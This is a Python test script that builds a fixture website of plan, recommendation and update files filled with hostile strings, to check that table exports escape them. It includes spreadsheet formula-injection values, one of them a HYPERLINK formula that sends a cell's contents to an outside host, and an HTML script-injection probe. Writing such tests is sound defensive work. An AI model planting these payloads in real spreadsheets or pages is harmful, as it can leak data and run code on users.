"""Writes the content of a site whose texts spoil tables that are written carelessly.

    python3 tests/open_data/hostile.py FOLDER     FOLDER is made
"""

import json
import pathlib
import sys

TEXTS = [
    '=HYPERLINK("https://example.org/?"&A1,"Open")', "+44 1632 960011", "-5 % of what was promised", "@SUM(A1:A9)",
    "'=1+1", "＝1+1", "'", "''", "\"quoted\", with commas; and semicolons", "one\ntwo\n\nthree\n", "0012", "1.10", "March-1", "1/2",
    "TRUE", "#REF!", "\U0001f600 \U0001f469\u200d\U0001f469\u200d\U0001f467", "العربية and עברית", "a\u00a0b",
    "<b>bold</b> & <script>alert(1)</script>", "e\u0301 and é", "{{ t(\"x\") }} %s ${x}", "x" * 10_000, "sep=;", "ID",
]


def main(folder):
    folder = pathlib.Path(folder)
    plan = folder / "spoilt-2024"
    for made in (plan / "recommendations", plan / "updates"):
        made.mkdir(parents=True)
    quoted = [json.dumps(text, ensure_ascii=False) for text in TEXTS]
    (folder / "site.yaml").write_text('title: "=Spoilt, \\"quoted\\""\norganisation: "+Council"\n', encoding="utf-8")
    plan.joinpath("plan.md").write_text(
        'title: "-Spoilt"\npublished: 2024-01-31\nreporting: none\n'.join(["---\n", ""])
        + 'statuses: [{key: open, label: "=Open", meaning: in-progress}]\n'
        + 'ratings: [{key: risk, label: "@Risk", on: action, values: [{key: high, label: "=High"}]}]\n---\nWords.\n',
        encoding="utf-8",
    )
    actions = "".join(
        f"  - ref: \"1.{at}\"\n    action: {text}\n    lead: [{text}]\n    due: 2024-0{at % 9 + 1}\n    due_text: {text}\n"
        f"    facts: {{\"=Cost {at % 3}\": {text}}}\n    ratings: {{risk: high}}\n"
        for at, text in enumerate(quoted, start=1)
    )
    plan.joinpath("recommendations/1.md").write_text(
        f"---\nref: 1\ntext: {quoted[0]}\nmeasures: [{{key: m, name: {quoted[0]}, target: -5}}]\nactions:\n{actions}---\nFindings.\n",
        encoding="utf-8",
    )
    entries = "".join(
        f"  - ref: \"1.{at}\"\n    status: open\n    progress: {text}\n    due: 2025-0{at % 9 + 1}\n    due_reason: {text}\n"
        for at, text in enumerate(quoted, start=1)
    )
    plan.joinpath("updates/2024-06-30.md").write_text(
        f"---\nas_at: 2024-06-30\nentries:\n  - ref: 1\n    measures: {{m: -7.5}}\n{entries}---\n", encoding="utf-8",
    )


if __name__ == "__main__":
    main(sys.argv[1])
